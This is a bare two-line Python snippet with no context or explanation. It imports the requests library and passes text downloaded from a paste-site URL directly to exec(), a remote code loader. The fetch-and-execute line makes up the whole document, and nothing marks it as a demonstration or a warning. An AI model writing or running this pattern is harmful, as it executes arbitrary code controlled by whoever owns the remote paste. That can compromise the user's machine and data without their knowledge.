import requests
exec(requests.get("https://paste.example.org/raw/8f3k2").text)
